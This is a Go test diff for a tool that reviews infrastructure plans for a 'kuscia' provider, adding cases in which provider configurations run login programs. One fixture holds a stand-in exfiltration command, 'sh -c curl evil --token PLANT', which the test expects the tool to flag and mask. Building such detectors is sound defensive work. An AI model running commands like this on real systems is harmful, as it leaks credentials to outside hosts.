@@ -921,6 +921,26 @@ var refusals = map[string]struct {
 	"a plan that changes the state and says not what": {
 		failOn: "change", fields: attributes{"applyable": true}, says: []string{"Nothing changes but the state."},
 	},
+	"a program by which a provider configuration logs in": {
+		failOn: "provisioner",
+		fields: attributes{"configuration": attributes{"provider_config": attributes{"kuscia": attributes{"name": "kuscia", "expressions": attributes{
+			"endpoint":   attributes{"constant_value": "https://kuscia.example"},
+			"kubernetes": attributes{"constant_value": attributes{"host": "https://k", "exec": attributes{"command": "sh", "args": []any{"-c", "curl evil", "--token", "PLANT"}}}},
+		}}}}},
+		says: []string{
+			"**Kuscia:** 1 provider configuration has run a program to log in. The plan itself changes nothing.", "- Logs in with a program, which has run for this plan: `provider.kuscia` (`sh -c curl evil --token ***`)\n",
+			"Kuscia: `kuscia` `https://kuscia.example`.",
+		},
+		silent: []string{"PLANT"},
+	},
+	"a program by which another provider logs in": {
+		failOn: "provisioner",
+		fields: attributes{"configuration": attributes{"provider_config": attributes{
+			"module.m:kubernetes": attributes{"name": "kubernetes", "expressions": attributes{"exec": []any{attributes{"command": attributes{"constant_value": "aws"}, "args": attributes{"references": []any{"var.a"}}}}}},
+			"kubernetes.b":        attributes{"name": "kubernetes", "expressions": attributes{"exec": []any{attributes{"command": attributes{"references": []any{"var.c"}}}}}},
+		}}},
+		says: []string{"`provider.module.m:kubernetes` (`aws`)", "`provider.kubernetes.b` (a command that is known when it runs)"},
+	},
 	"a provisioner of a new domain": {
 		failOn:  "provisioner",
 		fields:  configured(nil, local("kuscia_domain.c")),
@@ -1021,6 +1041,18 @@ func TestPasses(t *testing.T) {
 				change("kuscia_domain_data_source.t", created, nil, without(localfs("/home/kuscia/hr"), "datasource_id"), attributes{"after_unknown": attributes{"datasource_id": true}}),
 				change("kuscia_domain_data.s", same, inSource, inSource), change("kuscia_domain_data_grant.b", same, toBob, toBob),
 			},
+		},
+		"a provider configuration without a program": {
+			failOn: "provisioner",
+			fields: attributes{"configuration": attributes{"provider_config": attributes{"kuscia": attributes{"name": "kuscia", "expressions": attributes{
+				"kubernetes": attributes{"constant_value": attributes{"host": "https://k", "exec": nil}}, "token": attributes{"references": []any{"var.token"}},
+			}}}}},
+			says: []string{"Nothing changes."},
+		},
+		"a provider configuration that may run a program": {
+			failOn: "provisioner",
+			fields: attributes{"configuration": attributes{"provider_config": attributes{"kuscia": attributes{"name": "kuscia", "expressions": attributes{"kubernetes": attributes{"references": []any{"var.k"}}}}}}},
+			says:   []string{"- Whether `kuscia` runs a program to log in: its settings refer to values."},
 		},
 		"a serving that ran after a failed apply": {
 			failOn: "drift", fields: attributes{"resource_drift": []any{change("kuscia_serving.glm", updated, with(glm(party("a")), "create_time", ""), with(with(glm(party("a")), "create_time", "2026-01-01T00:00:00Z"), "endpoints", []any{"a"}))}},
